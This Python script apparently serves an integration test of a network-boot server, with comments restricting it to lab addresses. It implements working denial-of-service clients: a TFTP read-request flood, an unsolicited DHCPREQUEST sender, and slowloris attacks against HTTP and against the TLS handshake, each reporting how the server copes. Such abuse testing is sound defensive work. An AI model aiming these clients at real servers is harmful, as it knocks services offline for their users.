#!/usr/bin/env python3
# Hostile clients for tests/integration/test_abuse.sh (lab only: every address
# given here is a lab address in 198.18.0.0/15).
#
#   abuse_clients.py rrq SERVER NAME SOURCES PER_SOURCE
#       From each source address (comma-separated), PER_SOURCE sockets on their
#       own ports each send one read request for NAME (45 every 100 ms) and
#       never acknowledge anything. Prints "sent N data D busy B other O": first answers seen
#       within 2 s (DATA/OACK, ERROR 0 "busy", anything else).
#   abuse_clients.py request SERVER MAC IP
#       One DHCPREQUEST from client MAC for IP, naming SERVER as the server (the
#       SELECTING state of a client that was never offered IP), to SERVER:67.
#       Prints what came back within 2 s: "reply N" (N bytes) or "silence".
#   abuse_clients.py slowloris SERVER PORT SOURCES PER_SOURCE HOLD
#       From each source address, PER_SOURCE connections that send half a
#       request (no blank line) and then nothing. Holds them HOLD seconds and
#       prints "opened N refused R closed_by_server C": connections refused or
#       reset at once, and those the server closed while they were held.
#   abuse_clients.py slowloris-tls SERVER PORT SOURCES PER_SOURCE HOLD
#       The same against HTTPS: each connection sends the first 5 bytes of a TLS
#       record (a handshake header announcing 512 bytes) and then nothing, so the
#       server waits inside its handshake.
import os
import select
import socket
import struct
import sys
import time


def rrq(server, name, sources, per_source):
    socks = []
    packet = b"\x00\x01" + name.encode() + b"\x00octet\x00"
    for src in sources:
        for _ in range(per_source):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((src, 0))
            s.setblocking(False)
            socks.append(s)
    # Paced over 2 s (45 every 100 ms), so the flood lasts while the test looks around.
    for i, s in enumerate(socks):
        s.sendto(packet, (server, 69))
        if i % 45 == 44:
            time.sleep(0.1)
    answered = {}
    deadline = time.time() + 2
    while time.time() < deadline and len(answered) < len(socks):
        ready, _, _ = select.select(socks, [], [], 0.2)
        for s in ready:
            try:
                data = s.recv(2048)
            except OSError:
                continue
            if s in answered:
                continue
            op = data[1] if len(data) > 1 else 0
            if op in (3, 6):
                answered[s] = "data"
            elif op == 5 and data[3] == 0 and b"busy" in data:
                answered[s] = "busy"
            elif op == 5 and data[3] == 0 and b"from your address" in data:
                answered[s] = "mine"
            else:
                answered[s] = "other"
    kinds = list(answered.values())
    print("sent %d data %d busy %d mine %d other %d" % (
        len(socks), kinds.count("data"), kinds.count("busy"), kinds.count("mine"),
        kinds.count("other")))


def request(server, mac, ip):
    chaddr = bytes.fromhex(mac.replace(":", "")).ljust(16, b"\0")
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s", 1, 1, 6, 0, int.from_bytes(os.urandom(4), "big"),
                        0, 0x8000, bytes(4), bytes(4), bytes(4), bytes(4), chaddr)
    bootp += bytes(64 + 128) + b"\x63\x82\x53\x63"
    bootp += b"\x35\x01\x03" + b"\x32\x04" + socket.inet_aton(ip)
    bootp += b"\x36\x04" + socket.inet_aton(server) + b"\xff"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(bootp, (server, 67))
    try:
        print("reply %d" % len(s.recv(2048)))
    except socket.timeout:
        print("silence")


HALF_HTTP = b"GET /boot.ipxe HTTP/1.1\r\nHost: slow\r\nX-Slow: "
HALF_TLS = b"\x16\x03\x01\x02\x00"


def slowloris(server, port, sources, per_source, hold, half=HALF_HTTP):
    conns, refused = [], 0
    for src in sources:
        for _ in range(per_source):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((src, 0))
            s.settimeout(2)
            try:
                s.connect((server, port))
                s.sendall(half)
            except OSError:
                refused += 1
                s.close()
                continue
            conns.append(s)
    # A refused connection is accepted by the kernel, then closed by the server at
    # once: it reads as EOF (or a reset) right away.
    time.sleep(0.5)
    alive = []
    for s in conns:
        ready, _, _ = select.select([s], [], [], 0)
        if ready:
            try:
                closed = s.recv(1) == b""
            except OSError:
                closed = True
            if closed:
                refused += 1
                s.close()
                continue
        alive.append(s)
    closed_by_server = 0
    deadline = time.time() + hold
    while time.time() < deadline and alive:
        ready, _, _ = select.select(alive, [], [], 0.2)
        for s in ready:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                closed_by_server += 1
                alive.remove(s)
                s.close()
    print("opened %d refused %d closed_by_server %d" % (len(sources) * per_source, refused,
                                                          closed_by_server))
    for s in alive:
        s.close()


def main():
    if len(sys.argv) == 6 and sys.argv[1] == "rrq":
        rrq(sys.argv[2], sys.argv[3], sys.argv[4].split(","), int(sys.argv[5]))
    elif len(sys.argv) == 5 and sys.argv[1] == "request":
        request(sys.argv[2], sys.argv[3], sys.argv[4])
    elif len(sys.argv) == 7 and sys.argv[1] in ("slowloris", "slowloris-tls"):
        slowloris(sys.argv[2], int(sys.argv[3]), sys.argv[4].split(","), int(sys.argv[5]),
                  float(sys.argv[6]), HALF_TLS if sys.argv[1] == "slowloris-tls" else HALF_HTTP)
    else:
        sys.exit(__doc__ if __doc__ else "usage: see the header of this file")


if __name__ == "__main__":
    main()
